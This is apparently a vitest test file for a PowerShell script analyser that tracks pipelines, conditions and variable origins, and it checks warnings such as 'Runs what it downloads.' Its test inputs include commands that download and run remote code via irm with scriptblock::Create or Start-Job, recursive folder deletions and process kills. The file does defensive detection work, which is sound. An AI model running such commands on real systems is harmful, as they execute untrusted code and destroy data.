import { expect, test } from 'vitest';
import { Course } from '../../../../src/inspect/shell/course.ts';
import { Allowance, loadGrammars } from '../../../../src/inspect/shell/grammars.ts';
import { partsOf } from '../../../../src/inspect/shell/node.ts';
import { asCalls, type Handed } from '../../../../src/inspect/shell/powershell/calls.ts';
import {
  handedAt,
  OUTERMOST,
  placeInside,
  readHanded,
  readPart,
} from '../../../../src/inspect/shell/powershell/tree.ts';
import { finish } from '../../../../src/model/steps.ts';

/** What is handed to each command and call of a script, and what is known of the script in the end. */
async function read(script: string): Promise<{ handed: Map<string, Handed>; course: Course }> {
  const { powershell } = await loadGrammars();
  const tree = finish(powershell.parse(asCalls(script), new Allowance(5_000)));
  if (tree === null) throw new Error(script);
  const course = new Course(true, undefined);
  const handed = new Map<string, Handed>();
  const cursor = tree.rootNode.walk();
  const places = [OUTERMOST];
  for (;;) {
    const place = places.at(-1) ?? OUTERMOST;
    const { nodeType, currentNode } = cursor;
    if (/^(?:command|invokation_expression)$/.test(nodeType)) {
      const { first, around, conditions, given, origins } = handedAt(currentNode, place, course);
      handed.set(currentNode.text, { first, around, conditions, given, origins });
      const { words } = finish(partsOf(currentNode));
      if (nodeType === 'command') finish(readHanded(words, words, handedAt(currentNode, place, course), course));
    }
    readPart(nodeType, currentNode, place, course);
    const inside = placeInside(nodeType, place, cursor, course);
    if (cursor.gotoFirstChild()) {
      places.push(inside);
      continue;
    }
    while (!cursor.gotoNextSibling()) {
      places.pop();
      if (!cursor.gotoParent()) return { handed, course };
    }
  }
}

const KILLS = '$_.Kill()';
const around = async (script: string): Promise<string | undefined> => (await read(script)).handed.get(KILLS)?.around;
const conditions = async (script: string): Promise<readonly string[] | undefined> =>
  (await read(script)).handed.get(KILLS)?.conditions;
const deeds = async (script: string): Promise<readonly string[]> =>
  (await read(script)).course.deeds.map(({ message }) => message);

test('a command is given what its pipe puts out before it', async () => {
  const { handed } = await read("ps | ? { $_.Name -eq 'a|b' } | sort CPU | spps");
  expect(handed.get('spps')?.first).toBe("ps | ? { $_.Name -eq 'a|b' } | sort CPU");
  expect(handed.get('ps ')?.first).toBe('');
});

test('in a block, a variable for what comes in stands for what comes to the command of the block', async () => {
  expect(await around(`ps | % { ${KILLS} }`)).toBe('ps');
  expect(await around(`ps | sort CPU | % { $r = @(${KILLS}) }`)).toBe('ps | sort CPU');
  expect(await around(`ps | % { "$(${KILLS})" }`)).toBe('ps');
  expect(await around(`ps | % { & { ${KILLS} } }`)).toBe('ps');
  expect(await around(`ps | % { gsv | % { ${KILLS} } }`)).toBe('gsv');
  expect(await around(`ps | % { switch (1) { 1 { ${KILLS} } } }`)).toBe('');
  expect(await around(`ps | % { try { 1 } catch { ${KILLS} } }`)).toBe('');
});

test('a condition holds in its own block, until a variable is given a value', async () => {
  expect(await conditions(`ps | % { if ($a) { if ($b) { ${KILLS} } } }`)).toEqual(['$a', '$b']);
  expect(await conditions(`ps | % { if ($a) { 1 } elseif ($b) { ${KILLS} } }`)).toEqual(['$b']);
  for (const script of [
    `if ($a) { 1 } else { ${KILLS} }`,
    `if ($a) { 1 }; ${KILLS}`,
    `if (${KILLS}) { 1 }`,
    `if ($a) { $a = 1; ${KILLS} }`,
    `if ($a) { Set-Variable a 1; $b = 2; ${KILLS} }`,
    `if ($a) { ls | % { ${KILLS} } }`,
    `if ($a) { while ($true) { ${KILLS} } }`,
    `if ($a) { foreach ($b in ls) { ${KILLS} } }`,
  ])
    expect(await conditions(script), script).toEqual([]);
});

test('variables have their values from assignments, loops and parameters', async () => {
  const { origins, given, variables } = (
    await read(
      "$Script:F = gci -r; [string]$s = gc x; foreach ($p in ps) { 1 }; $d, $e = 'a', 2; $n = irm https://x.example",
    )
  ).course;
  expect(['f', 's', 'p', 'd'].map((name) => origins.get(name))).toEqual(['listed', 'read', 'processes', undefined]);
  expect([...given]).toEqual(['f', 's', 'p', 'd', 'e', 'n']);
  expect(variables.get('n')).toBe('fetched');
  expect([...(await read('function f([int]$n, $m) { 1 }')).course.given]).toEqual(['n', 'm']);
});

test.each([
  "$d = 'dist'; ri $d -r; $d = Read-Host",
  "$d = 'dist'; ri $d -r; $d, $e = 'src', 1",
  "$d = 'dist'; ri $d -r; Set-Variable d src",
  "$d = 'dist'; ri $d -r; gci -OutVariable d",
  "$d = 'dist'; ri $d -r; . ./x.ps1",
  "$d = 'dist'; ri $d -r; $h.TryGetValue('a', [ref]$d)",
  "$d = 'dist'; ri $d -r; si variable:d src",
  "$d = 'dist'; ri $d -r; function f($d) { 1 }",
])('%s may remove something else where it comes round', async (script) => {
  expect(await deeds(script)).toEqual(['Removes every file on a list.']);
});

test('.NET is called to remove, and to make code of text', async () => {
  expect(await deeds("[IO.Directory]::Delete('x')")).toEqual(['Removes a folder with everything in it.']);
  expect(await deeds("[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('x', 'DeleteAllContents')")).toEqual([
    'Removes a folder with everything in it.',
  ]);
  for (const made of ["'obj', $true", '"$PSScriptRoot\\dist", $true'])
    expect(await deeds(`[System.IO.Directory]::Delete(${made})`)).toEqual([
      'Removes files that a build or an installation makes again.',
    ]);
  for (const other of ["cd C:\\data; [IO.Directory]::Delete('obj', $true)", '[IO.Directory]::Delete("$x\\obj", $true)'])
    expect(await deeds(other)).toEqual(['Removes a folder with everything in it.']);
  expect(await deeds('[scriptblock]::Create($x)')).toEqual(['Hides the name of the command that it runs.']);
  expect(await deeds('[scriptblock]::Create((irm https://x.example))')).toEqual(['Runs what it downloads.']);
  const { scripts } = (await read("[scriptblock]::Create('ls')")).course;
  expect(scripts).toMatchObject([{ text: 'ls', isOwn: false, feed: undefined }]);
});

test('what was fetched before is run by another shell, and each item of a list is meant', async () => {
  expect(await deeds('$s = irm https://x.example; Start-Job $s')).toEqual(['Runs what it downloads.']);
  expect(await deeds('ri bin ,src -Recurse')).toEqual(['Removes a folder with everything in it.']);
});
